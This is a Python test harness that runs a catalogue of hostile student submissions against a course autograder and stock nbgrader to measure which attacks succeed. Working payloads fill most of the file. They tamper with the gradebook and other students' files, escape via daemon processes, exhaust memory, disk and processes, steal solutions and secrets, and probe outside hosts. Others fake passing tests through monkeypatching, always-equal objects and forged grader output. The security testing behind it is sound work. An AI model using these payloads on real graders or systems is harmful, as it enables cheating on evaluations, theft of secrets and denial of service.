"""Hostile submissions against the course's grader, next to stock nbgrader: the threat table.

    .venv/bin/python bench/threats.py [--no-stock]

Builds one submission per attack (the release of ``04_attention`` with its answer cells filled in,
plus the attack's code cells), grades them with :mod:`autograder.grade` (sandboxed) and the ones that
are safe without a sandbox with :mod:`testkit.stock` (stock ``nbgrader autograde``), each in a
throwaway work folder, and prints per attack the points each grader gave. ``autograder/THREATS.md``
holds the table as measured; ``tests/test_threats.py`` grades the same submissions and asserts
every row, plus the state of every file and process an attack aimed at.

An attack is "correct + attack" (every answer right, and the attack on top: nothing may be lost
or gained) or "wrong + attack" (every answer wrong, and the attack tries to get points anyway:
the answers alone score 0 with both graders). Attack code that needs to know where things are gets
a ``CTX`` dict with the real absolute paths of this run (the worst case: an attacker who guessed
them all).
"""
from __future__ import annotations

import argparse
import contextlib
import json
import os
import shutil
import socket
import sys
import tempfile
import threading
import time
import uuid
import zlib
from dataclasses import asdict, dataclass, field
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
if str(ROOT) not in sys.path:
    sys.path.insert(0, str(ROOT))

from nbformat.v4 import new_code_cell  # noqa: E402

from autograder import course  # noqa: E402
from autograder.sandbox import Limits  # noqa: E402
from testkit.submissions import filled, grade_id, release_notebook, solution_cells  # noqa: E402
from testkit.submissions import write as _write  # noqa: E402

ASSIGNMENT = "04_attention"
SOLUTION = course.source_notebook(ASSIGNMENT)
# A submission that never finishes costs 20 s. Three batches, each graded by one grade() call:
# "main" (every attack that must leave the others alone), "hog" (a fork bomb next to a bystander,
# on 2 CPUs) and "lock" (an endless call next to a bystander, and the forked memory eater, under
# a small memory limit that its children add up past).
LIMITS = {"main": Limits(wall_s=20, cpu_s=20), "hog": Limits(wall_s=20, cpu_s=20),
          "red": Limits(wall_s=20, cpu_s=20), "slow": Limits(wall_s=20, cpu_s=20),
          "lock": Limits(wall_s=30, cpu_s=30, memory_mb=2048)}
VICTIMS = ("alice", "bob", "carol")        # alice, bob: right answers; carol: the untouched release
CLASSES = {"multi_head_self_attention": "MultiHeadSelfAttention", "layer_norm": "LayerNorm"}
FUNCTIONS = {"basic_self_attention": "basic_self_attention",
             "scaled_dot_product_attention": "scaled_dot_product_attention",
             "causal_mask": "causal_mask", "sinusoidal_positions": "sinusoidal_positions"}

# Wrong answers of the right shapes (uniform attention, zeros, identity): 0 points with either
# grader, whatever inputs the hidden tests draw (uniform attention alone is right over one key,
# which a hidden test may draw in every case: its output is zeros too).
WRONG = {
    "basic_self_attention": (
        "def basic_self_attention(x):\n"
        "    B, T, D = x.shape\n"
        "    return torch.zeros(B, T, D), torch.full((B, T, T), 1.0 / T)\n"),
    "scaled_dot_product_attention": (
        "def scaled_dot_product_attention(q, k, v, mask=None):\n"
        "    w = torch.full((*q.shape[:-1], k.shape[-2]), 1.0 / k.shape[-2])\n"
        "    return torch.zeros(*q.shape[:-1], v.shape[-1]), w\n"),
    "causal_mask": (
        "def causal_mask(T):\n"
        "    return torch.ones(T, T, dtype=torch.bool)\n"),
    "multi_head_self_attention": (
        "class MultiHeadSelfAttention(nn.Module):\n"
        "    def __init__(self, d_model, n_heads):\n"
        "        super().__init__()\n"
        "        self.n_heads = n_heads\n"
        "        self.qkv = nn.Linear(d_model, 3 * d_model)\n"
        "        self.out = nn.Linear(d_model, d_model)\n\n"
        "    def forward(self, x, mask=None):\n"
        "        return self.out(x)\n"),
    "layer_norm": (
        "class LayerNorm(nn.Module):\n"
        "    def __init__(self, d, eps=1e-5):\n"
        "        super().__init__()\n"
        "        self.eps = eps\n"
        "        self.weight = nn.Parameter(torch.ones(d))\n"
        "        self.bias = nn.Parameter(torch.zeros(d))\n\n"
        "    def forward(self, x):\n"
        "        return self.weight * x + self.bias\n"),
    "sinusoidal_positions": (
        "def sinusoidal_positions(n_positions, d_model):\n"
        "    return torch.zeros(n_positions, d_model)\n"),
}

# The visible checks are only feedback in the course's grader; in stock nbgrader they share the
# graded cell with the hidden tests, so an attacker who wants points there silences them too.
SILENCE_CHECKS = (
    "check_basic_self_attention = check_scaled_dot_product_attention = lambda *a, **k: None\n"
    "check_causal_mask = check_multi_head_self_attention = lambda *a, **k: None\n"
    "check_layer_norm = check_sinusoidal_positions = lambda *a, **k: None\n")


# --------------------------------------------------------------------------- attack code
# Everything a hostile submission tries against grades and files. Returns what worked.
TAMPER = r'''
def tamper(CTX):
    import glob, json, os, sqlite3, sys
    rep = {"gradebook": {}, "results": {}, "submissions": {}, "course": {}, "planted": []}
    here = os.getcwd()
    work, a = CTX["work"], CTX["assignment"]
    # 1. the gradebook: the real path, and ../gradebook.db, ../../gradebook.db, ... from here
    dbs = [os.path.join(work, "gradebook.db")]
    dbs += [os.path.normpath(os.path.join(here, *[".."] * i, "gradebook.db")) for i in range(1, 7)]
    full = ("(select max_score from grade_cells where grade_cells.id = grade.cell_id)")
    for p in dict.fromkeys(dbs):
        try:
            con = sqlite3.connect(f"file:{p}?mode=rw", uri=True, timeout=5)
            n = con.execute("select count(*) from grade").fetchone()[0]
            if p in CTX["writable_ok"]:   # never write a database this run did not make
                con.execute(f"update grade set auto_score = {full}, manual_score = {full}")
                con.commit()
                rep["gradebook"][p] = f"REWROTE {n} grades"
            else:
                rep["gradebook"][p] = f"OPENED ({n} grades)"
            con.close()
        except Exception as e:
            rep["gradebook"][p] = f"{type(e).__name__}: {e}"
    # 2. every saved result: full marks
    found = glob.glob(os.path.join(work, "results", "*", "*.json"))
    found += [os.path.join(work, "results", a, v + ".json") for v in CTX["victims"]]
    for p in dict.fromkeys(found):
        try:
            with open(p) as f:
                d = json.load(f)
            for t in d.get("tasks", {}).values():
                t["score"], t["passed"] = t["max_score"], t["total"]
            with open(p, "w") as f:
                json.dump(d, f)
            rep["results"][p] = "REWRITTEN"
        except Exception as e:
            rep["results"][p] = f"{type(e).__name__}: {e}"
    # 3. the other students' notebooks, as submitted and as copied into the work folder
    for v in CTX["victims"]:
        for p in (os.path.join(CTX["subs"], v + ".ipynb"),
                  os.path.join(work, "submitted", v, a, a + ".ipynb")):
            try:
                with open(p, "a") as f:
                    f.write(CTX["marker"])
                rep["submissions"][p] = "APPENDED"
            except Exception as e:
                rep["submissions"][p] = f"{type(e).__name__}: {e}"
    # 4. the course and the grader's Python: open for writing, create a file next to them
    if CTX["probe_course"]:
        import tlcourse, torch
        lib = os.path.dirname(tlcourse.__file__)
        targets = [CTX["solution"], os.path.join(lib, "checks", "__init__.py"), torch.__file__,
                   os.path.join(CTX["root"], "autograder", "verdict.py")]
        for p in targets:
            try:
                open(p, "a").close()   # opening is enough to prove it; nothing is written
                rep["course"][p] = "OPENED FOR WRITING"
            except Exception as e:
                rep["course"][p] = f"{type(e).__name__}: {e}"
        dirs = [os.path.dirname(CTX["solution"]), os.path.join(lib, "checks"),
                os.path.dirname(os.path.dirname(torch.__file__)), sys.prefix, CTX["root"]]
        for d in dirs:
            p = os.path.join(d, CTX["marker"] + ".planted")
            try:
                with open(p, "x") as f:
                    f.write(CTX["marker"])
                rep["course"][p] = "CREATED"
            except Exception as e:
                rep["course"][p] = f"{type(e).__name__}: {e}"
    # 5. a file in every writable folder it can find: does any of them outlive the sandbox?
    if CTX["plant"]:
        dirs = [here, "/tmp", "/var/tmp", "/dev/shm", "/run/lock", os.path.expanduser("~")]
        for top, sub, _ in os.walk("/"):
            if top.startswith(("/proc", "/sys", "/dev")) or top.count("/") >= 3:
                sub[:] = []
            if os.access(top, os.W_OK | os.X_OK):
                dirs.append(top)
        for d in dict.fromkeys(dirs):
            p = os.path.join(d, CTX["marker"] + ".planted")
            try:
                with open(p, "w") as f:
                    f.write(CTX["marker"])
                rep["planted"].append(p)
            except Exception:
                pass
    return rep
'''

GRADEBOOK = TAMPER + '''
import json
print("ATTACK-REPORT", json.dumps(tamper(CTX)))
'''

# A grandchild in a new session that outlives the notebook, then tampers with everything.
DETACHED = r'''
import os, sys
script = ("CTX = " + repr(CTX) + "\n" + TAMPER_SRC +
          "import time\ntime.sleep(3)\ntamper(CTX)\ntime.sleep(3600)\n")
pid = os.fork()
if pid == 0:                       # double fork + setsid: a daemon, like nohup ... &
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", script, CTX["marker"] + "-detached"])
    os._exit(0)
os.waitpid(pid, 0)
# and System V shared memory, which is not tied to any process
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
print("shmget:", libc.shmget(CTX["ipc_key"], 4096, 0o1666))
'''

# The runner itself leaves the process group the grader kills, and never exits.
ESCAPE = r'''
import os, sys, threading, time
os.setpgid(0, 0)
threading.Thread(target=time.sleep, args=(3600,)).start()     # not a daemon: no exit
if os.fork() == 0:
    os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(3600)",
                              CTX["marker"] + "-escape"])
'''

INPUT_TRANSFORMER = r'''
ip = get_ipython()
def _neuter(lines):            # every graded cell becomes `pass`
    return ["pass\n"] if any("check_" in l or "HIDDEN" in l or "assert" in l for l in lines) else lines
ip.input_transformers_cleanup.append(_neuter)
'''

CUSTOM_EXC = r'''
ip = get_ipython()
ip.set_custom_exc((BaseException,), lambda shell, etype, value, tb, tb_offset=None: None)
ip.showtraceback = lambda *a, **k: None
'''

MONKEYPATCH_TORCH = r'''
import torch
torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
torch.Tensor.__eq__ = lambda self, other: torch.ones(self.shape, dtype=torch.bool)
''' + SILENCE_CHECKS

MONKEYPATCH_BUILTINS = r'''
import builtins, torch
_real_isinstance = builtins.isinstance
builtins.all = lambda *a, **k: True
builtins.any = lambda *a, **k: True
builtins.isinstance = lambda obj, cls: True if cls is torch.Tensor else _real_isinstance(obj, cls)
''' + SILENCE_CHECKS

# Not a patch at all: a global of the student's own namespace named like a builtin.
SHADOW_BUILTIN = r'''
def range(*args):          # every `for _ in range(n)` of a hidden test loops zero times
    return []
''' + SILENCE_CHECKS

# The answers' results are rewrapped by `_wrap` (defined here) at the end of every answer cell.
TENSOR_SUBCLASS = r'''
import torch
class _Liar(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if func in (torch.allclose, torch.equal):
            return True
        if getattr(func, "__name__", "") in ("__eq__", "eq"):
            return torch.ones(args[0].shape, dtype=torch.bool)
        return super().__torch_function__(func, types, args, kwargs or {})
def _lie(v):
    if type(v) is tuple:
        return tuple(_lie(t) for t in v)
    return v.as_subclass(_Liar) if isinstance(v, torch.Tensor) else v
def _wrap(f):
    def g(*a, **k):
        return _lie(f(*a, **k))
    return g
''' + SILENCE_CHECKS

ALWAYS_EQUAL = r'''
class _Always:
    """Equal to everything, true, any shape, any dtype."""
    shape = property(lambda self: _AnyShape())
    dtype = property(lambda self: _Always())
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __bool__(self): return True
    def __hash__(self): return 0
    def __getattr__(self, name): return lambda *a, **k: _Always()
    def __getitem__(self, i): return _Always()
    def __iter__(self): return iter((_Always(), _Always()))
    def __matmul__(self, o): return _Always()
class _AnyShape(tuple):
    def __eq__(self, other): return True
def _wrap(f):
    return lambda *a, **k: _Always()
''' + SILENCE_CHECKS

NOISE = r'''
import functools, sys, warnings
def _wrap(f):
    @functools.wraps(f)
    def g(*a, **k):
        print("debug:", f.__name__, [tuple(t.shape) for t in a if hasattr(t, "shape")])
        print("debug: computing", f.__name__, file=sys.stderr)
        warnings.warn(f"{f.__name__}: a harmless warning")
        return f(*a, **k)
    return g
'''

NOISE_END = r'''
import sys, warnings
print("x" * 100 + "\n" * 20_000)                  # a lot of printed output
print("progress: 100%" * 1000, file=sys.stderr)
warnings.warn("a harmless warning in an extra cell")
'''

FLOOD = r'''
import functools
def _wrap(f):
    @functools.wraps(f)
    def g(*a, **k):
        print("debug " * 350_000)                   # ~2 MB printed on every call
        return f(*a, **k)
    return g
'''

EXIT_WHEN_CALLED = r'''
def _wrap(f):
    def g(*a, **k):
        raise SystemExit(0)
    return g
'''

IMITATION = r'''
import io, json, os, struct, sys, torch
for task in ("basic_self_attention", "scaled_dot_product_attention", "causal_mask",
             "MultiHeadSelfAttention", "LayerNorm", "sinusoidal_positions"):
    print(f"✓ {task}: the visible checks passed. Hidden tests with fresh random inputs will grade it.")
print("✓ All tests passed. Score: 10 / 10")
fake = {"student": "t10-imitation", "status": "graded", "error": "",
        "tasks": {t: {"score": p, "max_score": p, "passed": 1, "total": 1, "visible": None, "message": ""}
                  for t, p in [("basic_self_attention_tests", 1), ("scaled_dot_product_attention_tests", 2),
                               ("causal_mask_tests", 1), ("multi_head_self_attention_tests", 3),
                               ("layer_norm_tests", 2), ("sinusoidal_positions_tests", 1)]}}
print(json.dumps(fake))
print("<script>alert('pwned')</script>")
buf = io.BytesIO()
torch.save({"ok": True, "cells": [], "names": {"basic_self_attention": "function",
                                               "causal_mask": "function"}}, buf)
frame = struct.pack(">Q", len(buf.getvalue())) + buf.getvalue()
import __main__
if hasattr(__main__, "_OUT"):           # in the course's runner:
    os.write(1, frame)                  # the grader's own frame format, on stdout and stderr,
    os.write(2, frame)
    os.write(__main__._OUT, frame)      # and on the runner's real channel to the grader
else:
    sys.stdout.write(frame.decode("latin-1"))
''' + SILENCE_CHECKS

READ_SECRETS = r'''
import glob, os
def _steal(CTX):
    import tlcourse
    root = os.path.dirname(os.path.dirname(tlcourse.__file__))   # the course, found from its library
    paths = [CTX["solution"], os.path.join(root, "solutions", CTX["assignment"], CTX["assignment"] + ".ipynb"),
             os.path.normpath(os.path.join(os.getcwd(), "..", "..", "..", "solutions", CTX["assignment"],
                                           CTX["assignment"] + ".ipynb"))]
    paths += [os.path.join(CTX["work"], ".grading-secret"),     # seeds the hidden tests' inputs
              os.path.join(CTX["work"], "gradebook.db")]
    paths += glob.glob(os.path.join(CTX["work"], "results", "*", "*.json"))
    paths += [os.path.join(CTX["subs"], v + ".ipynb") for v in CTX["victims"]]
    paths += glob.glob(os.path.join(CTX["subs"], "*.ipynb"))
    paths += glob.glob(os.path.join(CTX["work"], "submitted", "*", "*", "*.ipynb"))
    paths += glob.glob(os.path.join(root, "solutions", "*", "*.ipynb"))
    procs = []                          # the machine's processes, from /proc
    for pid in os.listdir("/proc"):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                procs.append(pid + " " + f.read().replace(b"\0", b" ").decode(errors="replace"))
        except Exception:
            pass
    out = ["PROCESSES " + " | ".join(procs)]
    for p in dict.fromkeys(paths):
        try:
            with open(p, errors="replace") as f:
                out.append(f"STOLEN {p}:\n{f.read()}")
        except Exception as e:
            out.append(f"could not read {p}: {type(e).__name__}")
    return "\n".join(out)
_stolen = _steal(CTX)
print(_stolen)
'''

READ_SECRETS_RAISE = (
    "def sinusoidal_positions(n_positions, d_model):\n"
    "    raise RuntimeError(_stolen)                # the loot, as my error message\n")

SYS_EXIT = ["import sys\nsys.exit(0)", "raise SystemExit('bye')", "print('still running')"]
OS_EXIT = ["import os\nos._exit(0)"]
KILL_OWN_GROUP = ["import os, signal\nos.killpg(os.getpgrp(), signal.SIGKILL)",
                  "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)",
                  "print('still running')"]

LOOP_WHEN_CALLED = (
    "def causal_mask(T):\n"
    "    while globals().get('_graded'):     # once the notebook has run: never returns\n"
    "        pass\n"
    "    return torch.ones(T, T, dtype=torch.bool).tril()\n")

LOOP = r'''
import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
signal.signal(signal.SIGTERM, signal.SIG_IGN)
while True:
    pass
'''

FORK_BOMB = r'''
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
'''

FORK_BOMB_SETSID = r'''
import os
while True:
    try:
        if os.fork() == 0:
            os.setsid()            # every child its own session (and scheduler group)
    except OSError:
        pass
'''

MEMORY = r'''
import json, torch
rep = []
for what, alloc in [("bytearray(50 GB)", lambda: bytearray(50 * 2**30)),
                    ("torch.ones(50 GB)", lambda: torch.ones(50 * 2**30 // 4))]:
    try:
        alloc()
        rep.append(f"{what}: ALLOCATED")
    except BaseException as e:
        rep.append(f"{what}: {type(e).__name__}")
hold = []
try:
    while True:
        hold.append(torch.empty(512 * 2**20 // 4))       # 512 MB more, until refused
except BaseException as e:
    rep.append(f"got {len(hold) * 512} MB more, then {type(e).__name__}")
del hold
print("ATTACK-REPORT", json.dumps(rep))
'''

MEMORY_FORKED = r'''
import json, os, select, time, torch
def held_mb():
    # the memory this process holds on its own, resident or swapped out: pages it still shares
    # with the process it was forked from (the grader's warm copy of the setup) are charged to
    # that process, once, not to this one
    with open("/proc/self/smaps_rollup") as f:
        kb = {l.split(":")[0]: int(l.split()[1]) for l in f
              if l.startswith(("Private_Clean", "Private_Dirty", "Swap:"))}
    return sum(kb.values()) // 1024
r, w = os.pipe()                     # "allocated" from each child
done_r, done_w = os.pipe()           # what each child still holds once every child has allocated
go_r, go_w = os.pipe()
kids = []
for _ in range(4):
    pid = os.fork()
    if pid == 0:
        before = held_mb()
        try:
            x = torch.ones(600 * 2**20 // 4)             # 600 MB each, touched
            os.write(w, b"1\n")
        except BaseException:
            os.write(w, b"0\n")
        os.read(go_r, 1)                                 # hold it until every child has
        os.write(done_w, f"{held_mb() - before}\n".encode())
        os._exit(0)
    kids.append(pid)
got, end = b"", time.monotonic() + 5                     # a child may be killed: wait 5 s at most
while got.count(b"\n") < len(kids) and time.monotonic() < end:
    if select.select([r], [], [], 0.2)[0]:
        got += os.read(r, 100)
os.write(go_w, b"x" * len(kids))
killed = 0
for pid in kids:
    _, status = os.waitpid(pid, 0)
    killed += os.WIFSIGNALED(status)
# a child killed after it had allocated (the kernel's OOM killer picks the largest process of
# the group) held nothing at the end: only the survivors' memory was held at once
os.close(done_w)
held = [int(n) for n in os.read(done_r, 1000).split()]
print("ATTACK-REPORT", json.dumps({"children_mb": held, "killed": killed, "parent_mb": held_mb(),
                                   "total_mb": sum(held) + held_mb()}))
'''

DISK = r'''
import json, os
rep, chunk = {}, b"\0" * (8 * 2**20)
for i, d in enumerate(["/tmp", os.getcwd(), "/var/tmp", "/dev/shm", "/tmp", "/tmp"]):
    p = os.path.join(d, f"{CTX['marker']}.fill{i}")
    n = 0
    try:
        with open(p, "wb") as f:
            while n < 10 * 2**30:                        # 10 GB
                f.write(chunk)
                n += len(chunk)
        rep[p] = f"wrote {n >> 20} MB"
    except OSError as e:
        rep[p] = f"stopped after {n >> 20} MB: {e.strerror}"
print("ATTACK-REPORT", json.dumps(rep))
'''

NETWORK = r'''
import json, socket
rep = {}
def tcp(host, port):
    try:
        s = socket.create_connection((host, port), timeout=3)
        s.sendall(CTX["marker"].encode())
        s.close()
        return "CONNECTED"
    except Exception as e:
        return f"{type(e).__name__}: {e}"
rep["tcp 127.0.0.1 (a port the grader's machine listens on)"] = tcp("127.0.0.1", CTX["port"])
rep["tcp 8.8.8.8:53"] = tcp("8.8.8.8", 53)
rep["tcp 1.1.1.1:443"] = tcp("1.1.1.1", 443)
try:
    rep["dns pypi.org"] = "RESOLVED " + str(socket.getaddrinfo("pypi.org", 443)[0][4])
except Exception as e:
    rep["dns pypi.org"] = f"{type(e).__name__}: {e}"
try:
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.sendto(CTX["marker"].encode(), ("127.0.0.1", CTX["port"]))
    rep["udp 127.0.0.1"] = "SENT"
except Exception as e:
    rep["udp 127.0.0.1"] = f"{type(e).__name__}: {e}"
if CTX["unix_socket"]:
    try:
        s = socket.socket(socket.AF_UNIX)
        s.settimeout(3)
        s.connect(CTX["unix_socket"])
        rep["unix socket"] = "CONNECTED"
        s.close()
    except Exception as e:
        rep["unix socket"] = f"{type(e).__name__}: {e}"
print("ATTACK-REPORT", json.dumps(rep))
'''

# The runner's module: where a forked sandbox has it, or the old one-process runner (a script).
RUNNER_MODULE = r'''
import sys
_R = sys.modules.get("autograder.runner") or sys.modules["__main__"]
'''

STOP_READING = RUNNER_MODULE + r'''
import fcntl, os, signal, stat, time
for fd in range(3, 256):                 # the smallest pipes the kernel allows
    try:
        if stat.S_ISFIFO(os.fstat(fd).st_mode):
            fcntl.fcntl(fd, 1031, 4096)  # F_SETPIPE_SZ
    except OSError:
        pass
def _never(*a, **k):                     # the runner stops reading its request pipe
    signal.pthread_sigmask(signal.SIG_BLOCK, [signal.SIGALRM, signal.SIGINT, signal.SIGTERM])
    while True:
        time.sleep(1)
_R.recv = _never
'''

SHARED_REFS = RUNNER_MODULE + r'''
_bomb = [0.0]
for _ in range(64):                      # 64 levels, each holding the last twice: 2**64 copies
    _bomb = [_bomb, _bomb]
_R.plain = lambda value, depth=0: _bomb  # every reply is the bomb (a few hundred bytes)
'''

COMPRESSED = RUNNER_MODULE + r'''
import io, os, struct, zipfile, torch
def _send(obj):                          # every frame re-packed with deflate: 256 MB of zeros
    buf = io.BytesIO()
    torch.save(obj, buf)
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(buf.getvalue())) as src, \
            zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            dst.writestr(info.filename, src.read(info.filename))
        with dst.open("archive/data/9999", "w") as f:
            for _ in range(256):
                f.write(bytes(2**20))
    data = out.getvalue()
    os.write(_R._OUT, struct.pack(">Q", len(data)) + data)
_R.send = _send
'''

WRITER_BREAKER = r'''
print("lone surrogate \ud800 NUL \x00 escape \x1b[2J <script>alert(1)</script>")
raise RuntimeError("\udcff NUL \x00 " + "x" * 5_000_000)
'''

UNCUT_MESSAGE = RUNNER_MODULE + r'''
_R._short = lambda text: text            # no cut: whatever the runner reports goes out whole
raise RuntimeError("\udcff" + "x" * 6_000_000)
'''

SLEEPY = r'''
import functools, time
def _wrap(f):                            # right answers, each call just under the call limit
    @functools.wraps(f)
    def g(*a, **k):
        time.sleep(4.5)
        return f(*a, **k)
    return g
'''

LEGIT_WORK = r'''
import time
t = time.process_time()
while time.process_time() - t < 1.5:      # a small experiment of the student's own
    sum(i * i for i in range(10_000))
'''


# --------------------------------------------------------------------------- the catalogue
@dataclass
class Attack:
    sid: str                    # the submission's file name (student id)
    threat: str                 # the threat it belongs to (THREATS.md)
    what: str                   # one line
    answers: str = "correct"    # "correct" or "wrong"
    start: list = field(default_factory=list)   # code cells right after the setup cell
    wrap: bool = False          # end every answer cell with `name = _wrap(name)` (_wrap from start)
    override: dict = field(default_factory=dict)  # answer grade_id -> source
    suffix: dict = field(default_factory=dict)    # answer grade_id -> code appended to the answer
    end: list = field(default_factory=list)     # code cells at the end of the notebook
    forge: bool = False         # rewrite the graded cells and their metadata
    stock: bool = False         # safe to run under stock nbgrader (no sandbox) in a tmp folder
    batch: str = "main"         # "main", "hog", "lock" or "red" (see LIMITS)
    bloat_mb: int = 0           # MB of nested empty lists in the notebook's metadata


def catalogue() -> list[Attack]:
    A = Attack
    return [
        A("t00-wrong", "0 control", "wrong answers, no attack", "wrong", stock=True),
        A("t01-gradebook", "1 gradebook & files",
          "sqlite3 rewrites every grade; rewrites saved results; appends to other students' "
          "notebooks; opens course files and the grader's Python for writing", "wrong",
          end=[GRADEBOOK], stock=True),
        A("t02-detached", "2 detached process",
          "double fork + setsid + exec: a daemon that tampers with everything 3 s later; "
          "System V shared memory", "wrong", end=[DETACHED]),
        A("t02b-escape", "2 detached process",
          "the runner leaves its process group (setpgid) and never exits", end=[ESCAPE]),
        A("t03a-input-transformer", "3 IPython hooks",
          "an IPython input transformer turns every graded cell into `pass`", "wrong",
          start=[INPUT_TRANSFORMER], stock=True),
        A("t03b-custom-exc", "3 IPython hooks",
          "`set_custom_exc` + `showtraceback` swallow every failing test", "wrong",
          start=[CUSTOM_EXC], stock=True),
        A("t04a-patch-torch", "4 monkeypatching",
          "torch.allclose, torch.equal, Tensor.__eq__ always true; visible checks silenced",
          "wrong", start=[MONKEYPATCH_TORCH], stock=True),
        A("t04b-patch-builtins", "4 monkeypatching",
          "builtins.all, builtins.any, builtins.isinstance lie", "wrong",
          start=[MONKEYPATCH_BUILTINS], stock=True),
        A("t04c-shadow-range", "4 monkeypatching",
          "a global `def range(*a): return []` (shadows the builtin, no patching)", "wrong",
          start=[SHADOW_BUILTIN], stock=True),
        A("t05a-tensor-subclass", "5 lying return values",
          "results are a Tensor subclass whose __torch_function__ makes allclose/equal/== true",
          "wrong", start=[TENSOR_SUBCLASS], wrap=True, stock=True),
        A("t05b-always-equal", "5 lying return values",
          "results are an object equal to everything, of every shape", "wrong",
          start=[ALWAYS_EQUAL], wrap=True, stock=True),
        A("t06-read-secrets", "6 reading secrets",
          "reads solutions/ (hidden tests), other students' notebooks and /proc; prints the loot "
          "and raises it as an error message", "correct",
          suffix={"basic_self_attention": READ_SECRETS},
          override={"sinusoidal_positions": READ_SECRETS_RAISE}, stock=True),
        A("t07a-sys-exit", "7 early exit", "`sys.exit(0)` and `raise SystemExit` in extra cells",
          end=list(SYS_EXIT), stock=True),
        A("t07b-os-exit", "7 early exit", "`os._exit(0)` in an extra cell", end=list(OS_EXIT),
          stock=True),
        A("t07c-kill-group", "7 early exit", "SIGKILL to its own process group and to itself",
          end=list(KILL_OWN_GROUP)),
        A("t07d-exit-when-called", "7 early exit",
          "every answer raises SystemExit when a test calls it", "wrong",
          start=[EXIT_WHEN_CALLED], wrap=True, stock=True),
        A("t08-loop", "8 endless loop", "`while True: pass` with SIGINT and SIGTERM ignored",
          end=[LOOP]),
        A("t08b-loop-when-called", "8 endless loop",
          "`causal_mask` never returns when a hidden test calls it (the rest is right)",
          override={"causal_mask": LOOP_WHEN_CALLED}, end=["_graded = True"], batch="lock"),
        A("t09a-fork-bomb", "9 resources", "fork bomb", end=[FORK_BOMB]),
        A("t09b-memory", "9 resources",
          "allocates 50 GB twice, then 512 MB blocks until refused", end=[MEMORY]),
        A("t09c-disk", "9 resources", "writes 10 GB files to /tmp, the cwd, /var/tmp, /dev/shm",
          end=[DISK]),
        A("t09d-network", "9 resources",
          "TCP to a port listening on 127.0.0.1 and to the internet, DNS, UDP, a unix socket",
          end=[NETWORK]),
        A("t10-imitation", "10 imitating the grader",
          "prints ✓ lines, a full-marks result JSON, <script>, and grader frames on stdout, "
          "stderr and the runner's real channel", "wrong", start=[IMITATION],
          suffix={"basic_self_attention": "print(\"<script>alert('pwned')</script>\")\n"},
          stock=True),
        A("t11a-noise", "11 noise",
          "every call prints to stdout and stderr and warns; 2 MB of output in an extra cell",
          start=[NOISE], wrap=True, end=[NOISE_END], stock=True),
        A("t11b-flood", "11 noise", "every call prints 2 MB (e.g. full tensors)",
          start=[FLOOD], wrap=True),
        A("t12-forged-metadata", "12 forged notebook",
          "graded cells replaced by `pass` with 1000 points; an extra graded cell worth 100",
          "wrong", forge=True, stock=True),
        # what one submission can take from another graded at the same time: each bystander
        # (right answers and 1.5 s of work of its own) starts together with the attack after it
        A("dave", "9 resources", "bystander graded next to t09e (right answers, 1.5 s of work)",
          end=[LEGIT_WORK], batch="hog"),
        A("t09e-fork-bomb-setsid", "9 resources",
          "fork bomb whose children each call setsid()", end=[FORK_BOMB_SETSID], batch="hog"),
        A("erin", "8 endless loop", "bystander graded next to t08b (right answers, 1.5 s of work)",
          end=[LEGIT_WORK], batch="lock"),
        A("t09f-memory-forked", "9 resources",
          "4 forked children touch 600 MB each at once (memory limit 2048 MB)",
          end=[MEMORY_FORKED], batch="lock"),
        # the trusted side: what the grader reads, decodes and writes for a submission
        A("frank", "13 bounded grader", "bystander of the red-team batch (right answers, 1.5 s "
          "of work)", end=[LEGIT_WORK], batch="red"),
        A("t13-stop-reading", "13 bounded grader",
          "the runner stops reading its request pipe (shrunk to 4 KB), signals blocked",
          start=[STOP_READING], batch="red"),
        A("t14a-shared-refs", "13 bounded grader",
          "every reply is a list holding itself twice, 64 levels deep (2**64 values decoded)",
          start=[SHARED_REFS], batch="red"),
        A("t14b-compressed", "13 bounded grader",
          "every reply re-packed with deflate and 256 MB of zeros in a record", start=[COMPRESSED],
          batch="red"),
        A("t15-notebook-bomb", "13 bounded grader",
          "25 MB of nested empty lists in the notebook's metadata (GBs once parsed)",
          bloat_mb=25, batch="red"),
        A("t16a-writer-breaker", "13 bounded grader",
          "a lone surrogate, NUL and escape codes in its output and in a 5 MB error message",
          end=[WRITER_BREAKER], batch="red"),
        A("t16b-uncut-message", "13 bounded grader",
          "the runner's cut removed: a 6 MB error message with a lone surrogate goes out whole",
          end=[UNCUT_MESSAGE], batch="red"),
        # slow submissions, in a batch of their own: with a bystander, and nothing else that
        # computes for long (so nothing but their own waiting decides when they run)
        A("heidi", "14 slow submissions", "bystander of the slow batch (right answers)",
          batch="slow"),
        *[A(f"t17-slow-{i}", "14 slow submissions",
            "right answers, each call sleeps 4.5 s (under the 5 s call limit)",
            start=[SLEEPY], wrap=True, batch="slow") for i in range(3)],
    ]


# --------------------------------------------------------------------------- building
@dataclass
class Ctx:
    """What the attack code is told: the real paths of this run (an attacker who guessed right)."""
    work: str
    subs: str
    marker: str
    port: int = 0
    unix_socket: str = ""
    ipc_key: int = 0
    probe_course: bool = True      # open course files for writing (never written to)
    plant: bool = True             # drop a file in every writable folder
    assignment: str = ASSIGNMENT
    solution: str = str(SOLUTION)
    root: str = str(ROOT)
    victims: list = field(default_factory=lambda: list(VICTIMS))
    writable_ok: list = field(default_factory=list)

    def __post_init__(self):
        self.writable_ok = [str(Path(self.work) / "gradebook.db")]
        self.ipc_key = self.ipc_key or zlib.crc32(self.marker.encode()) & 0x7FFFFFFF

    def prelude(self, code: str = "") -> str:
        tamper = f"TAMPER_SRC = {TAMPER!r}\n" if "TAMPER_SRC" in code else ""
        return f"CTX = {asdict(self)!r}\n" + tamper


def new_marker() -> str:
    return "tlthreat" + uuid.uuid4().hex[:12]


def _cell(code: str, ctx: Ctx):
    return new_code_cell((ctx.prelude(code) if "CTX" in code else "") + code)


